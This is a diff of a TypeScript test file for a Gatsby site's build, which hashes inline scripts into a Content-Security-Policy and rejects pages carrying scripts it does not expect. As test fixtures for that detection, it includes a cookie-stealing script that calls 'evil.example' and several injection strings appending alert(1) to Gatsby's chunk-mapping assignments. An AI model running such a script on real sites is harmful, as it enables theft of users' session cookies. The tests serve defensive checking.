@@ -15,26 +15,33 @@ import {
 } from "../../src/node/cdn-files"
 import { samePagePathScript, samePagePathScriptInEveryPage } from "../../gatsby/internals/page-path-script"
 import { inlineScripts, scriptHash } from "../../src/node/inline-scripts"
+import { noticesScript } from "../../src/site/components/Notices/visibility"
 import { cmsOpenerPolicy, cmsPolicy, policyText } from "../../src/node/security-headers"
 import { cmsRoute, redirectRoutes } from "../../src/model/routes"
 
 /**
- * The CDN's files on a small made-up build: what Gatsby writes into a page (its page-path script, a script of the
- * site's, data that is not run), hash-named scripts and the files that are not, the editor's page.
+ * The CDN's files on a small made-up build: what Gatsby writes into a page (its page-path script, its chunk mapping
+ * and compilation hash, a script of the site's, data that is not run), hash-named scripts and the files that are
+ * not, the editor's page.
  */
 
 const pagePathScript = (pagePath: string) =>
   `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath=${JSON.stringify(pagePath)};/*]]>*/</script>`
 
-const page = (pagePath: string, extra = "") =>
+/** Gatsby's chunk mapping, as its `_gatsby-scripts` slice writes it. */
+const chunkMapping = (mapping = "{}") =>
+  `<script id="gatsby-chunk-mapping">\n  window.___chunkMapping=${JSON.stringify(mapping)};\n</script>`
+
+const page = (pagePath: string, extra = "", mapping = "{}") =>
   [
     "<!DOCTYPE html><html><head>",
-    "<script>!function(){window.early=1}()</script>",
+    `<script>${noticesScript}</script>`,
     '<script type="application/ld+json">{"@type":"Hospital"}</script>',
     '<style data-styled="">.a{color:red}</style>',
     "</head><body><main>Page</main>",
     pagePathScript(pagePath),
-    '<script id="gatsby-chunk-mapping">/*<![CDATA[*/window.___chunkMapping="{}";/*]]>*/</script>',
+    chunkMapping(mapping),
+    '<script>window.___webpackCompilationHash="0123456789abcdef0123";</script>',
     '<script src="/app-0123456789abcdef0123.js" async></script>',
     extra,
     "</body></html>",
@@ -90,9 +97,10 @@ const policyAt = (address: string) => headersForPath(rules(), address)["content-
 
 test("only the scripts a browser runs from the page itself are inline scripts", () => {
   expect(inlineScripts(page("/news/"))).toEqual([
-    "!function(){window.early=1}()",
+    noticesScript,
     '/*<![CDATA[*/window.pagePath="/news/";/*]]>*/',
-    '/*<![CDATA[*/window.___chunkMapping="{}";/*]]>*/',
+    '\n  window.___chunkMapping="{}";\n',
+    'window.___webpackCompilationHash="0123456789abcdef0123";',
   ])
   expect(inlineScripts('<script type="module">go()</script><script type="text/plain">x</script>')).toEqual(["go()"])
 })
@@ -127,11 +135,33 @@ test("every script of every page is allowed by its hash, once, and nothing else 
   const expected = [
     ...new Set(["index.html", "news/index.html"].flatMap(file => inlineScripts(read(file)).map(scriptHash))),
   ]
-  expect(expected).toHaveLength(3)
+  expect(expected).toHaveLength(4)
   const scriptSrc = /script-src ([^;]*)/.exec(hashes[0] ?? "")?.[1].split(" ")
   // 'wasm-unsafe-eval' lets the site search compile Pagefind's WebAssembly; it allows no eval of script.
   expect(scriptSrc?.sort()).toEqual(["'self'", "'wasm-unsafe-eval'", ...expected].sort())
   expect(scriptPolicyProblems(publicDir)).toEqual([])
+})
+
+test("a page carrying an inline script the build does not mean to emit stops the build, naming page and script", () => {
+  const injected = "window.stolen=document.cookie;fetch('https://evil.example/'+window.stolen)"
+  fs.writeFileSync(path.join(publicDir, "news/index.html"), page("/news/", `<script>${injected}</script>`))
+  expect(() => write()).toThrow(
+    `inline scripts the build does not mean to emit (src/node/known-scripts.ts):\n  public/news/index.html: ${JSON.stringify(injected.slice(0, 60))}`,
+  )
+  expect(fs.existsSync(path.join(publicDir, "_headers"))).toBe(false)
+})
+
+test("Gatsby's scripts are known by a shape that can only assign a string: one that does more is refused", () => {
+  for (const script of [
+    '<script>window.___chunkMapping="{}";alert(1)</script>',
+    '<script id="gatsby-chunk-mapping">window.___chunkMapping="{\\"a\\":1}" + alert(1);</script>',
+    '<script>window.___webpackCompilationHash="0123";alert(1);</script>',
+  ]) {
+    fs.writeFileSync(path.join(publicDir, "index.html"), page("/", script))
+    expect(() => write()).toThrow(
+      /^Pages carry inline scripts the build does not mean to emit .*\n {2}public\/index\.html: /,
+    )
+  }
 })
 
 test("a page with a script the policy does not name is found, naming the page", () => {
@@ -264,10 +294,7 @@ test("a _headers that Cloudflare would cut short is refused: too many rules, or 
   // Cloudflare would drop.
   for (let index = 0; index < 40; index++) {
     fs.mkdirSync(path.join(publicDir, `p${index}`))
-    fs.writeFileSync(
-      path.join(publicDir, `p${index}/index.html`),
-      page(`/p${index}/`, `<script>window.n=${index}</script>`),
-    )
+    fs.writeFileSync(path.join(publicDir, `p${index}/index.html`), page(`/p${index}/`, "", `{"n":${index}}`))
   }
   expect(() => write()).toThrow(
     /_headers cannot be written as Cloudflare Pages would read it:\n {2}line \d+ is \d+ characters/,
